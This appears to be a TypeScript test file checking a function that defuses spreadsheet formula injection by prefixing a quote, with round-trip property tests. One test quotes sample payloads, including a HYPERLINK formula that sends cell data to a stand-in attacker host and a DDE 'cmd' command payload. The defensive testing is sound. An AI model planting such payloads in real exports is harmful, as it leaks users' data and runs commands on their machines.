import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FORMULA_TRIGGERS, neutraliseCell, neutraliseRow, restoreCell } from "./spreadsheet-cell";

/** Strings that start with a trigger or a quote half of the time, arbitrary text otherwise. */
const cells = fc.oneof(
  fc.tuple(fc.constantFrom(...FORMULA_TRIGGERS, "'"), fc.string()).map(([first, rest]) => first + rest),
  fc.string({ unit: "grapheme" }),
  fc.string(),
);

describe("neutraliseCell", () => {
  it("never starts a cell with =, +, -, @, tab or CR, and the original can always be read back", () => {
    fc.assert(
      fc.property(cells, (value) => {
        const cell = neutraliseCell(value);
        expect(FORMULA_TRIGGERS.some((trigger) => cell.startsWith(trigger))).toBe(false);
        expect(restoreCell(cell)).toBe(value);
      }),
      { numRuns: 5_000 },
    );
  });

  it("reads back only the quote it added: a quote that belongs to the text stays", () => {
    expect(restoreCell("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect(restoreCell("''s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect(restoreCell("'-10% budget")).toBe("-10% budget");
    fc.assert(
      fc.property(cells, (value) => {
        expect(restoreCell(value)).toBe(value.startsWith("'") && neutraliseCell(value.slice(1)) === value ? value.slice(1) : value);
      }),
    );
  });

  it("leaves text that no spreadsheet reads as a formula as it is", () => {
    fc.assert(
      fc.property(cells, (value) => {
        if (!/^[=+\-@\t\r']/.test(value)) expect(neutraliseCell(value)).toBe(value);
      }),
    );
  });

  it("neutralises the review's payloads with OWASP's leading quote", () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?x="&A1,"klik")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"klik")');
    expect(neutraliseCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(neutraliseCell("@SUM(1+1)")).toBe("'@SUM(1+1)");
    expect(neutraliseCell("-2+3")).toBe("'-2+3");
    expect(neutraliseCell("\t=1")).toBe("'\t=1");
    expect(neutraliseCell("\r=1")).toBe("'\r=1");
    // A text that already starts with a quote gets one more, so that reading back is unambiguous.
    expect(neutraliseCell("'s-Hertogenbosch")).toBe("''s-Hertogenbosch");
    expect(neutraliseCell("")).toBe("");
  });
});

describe("neutraliseRow", () => {
  it("neutralises text and leaves numbers, which a spreadsheet needs as numbers, alone", () => {
    expect(neutraliseRow(["=1+1", -3, 0.5, "JZ01"])).toEqual(["'=1+1", -3, 0.5, "JZ01"]);
  });
});
